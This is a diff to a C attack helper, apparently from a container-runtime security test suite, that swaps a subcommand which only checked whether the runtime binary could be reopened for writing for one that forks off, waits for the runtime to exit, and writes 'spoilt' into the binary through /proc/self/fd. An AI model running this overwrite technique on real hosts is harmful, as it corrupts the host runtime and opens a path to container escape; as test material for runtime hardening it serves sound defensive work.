@@ -89,28 +89,23 @@ static int cmd_ctty(void)
     return 0;
 }
 
-/*
- * overwrite: the end of an attack on the runtime's binary. Run as that binary's loader or instead
- * of it, it holds /proc/self/exe open, lets the runtime go away and opens it for writing.
- */
-static int cmd_overwrite(char **argv)
+/* reopen FD: once nobody runs what FD is open on, opens it for writing and spoils it. */
+static int cmd_reopen(char **argv)
 {
-    char again[64];
-    int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
-    if (fd < 0)
-        return fail(argv[0]);
-    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
-    for (int i = 0; i < 2000; i++) {
-        if (open(again, O_WRONLY | O_CLOEXEC) >= 0) {
-            puts("writable");
-            return 0;
-        }
+    char link[64];
+    snprintf(link, sizeof link, "/proc/self/fd/%s", argv[0]);
+    /* A hook has to end, so that the runtime goes on and away. */
+    if (getpid() != 1 && fork() > 0)
+        return 0;
+    for (int i = 0; i < 3000; i++) {
+        int fd = open(link, O_WRONLY | O_CLOEXEC);
+        if (fd >= 0)
+            return write(fd, "spoilt", 6) == 6 ? 0 : fail("write");
         if (errno != ETXTBSY)
             break;
         usleep(1000);
     }
-    printf("refused: %s\n", strerror(errno));
-    return 0;
+    return fail(link);
 }
 
 int main(int argc, char **argv)
@@ -126,8 +121,8 @@ int main(int argc, char **argv)
         return cmd_fds();
     if (!strcmp(name, "ctty"))
         return cmd_ctty();
-    if (!strcmp(name, "overwrite") && argc == 3)
-        return cmd_overwrite(argv + 2);
-    fprintf(stderr, "usage: attack swap|takepid|push|fds|ctty|overwrite ...\n");
+    if (!strcmp(name, "reopen") && argc == 3)
+        return cmd_reopen(argv + 2);
+    fprintf(stderr, "usage: attack swap|takepid|push|fds|ctty|reopen ...\n");
     return 125;
 }
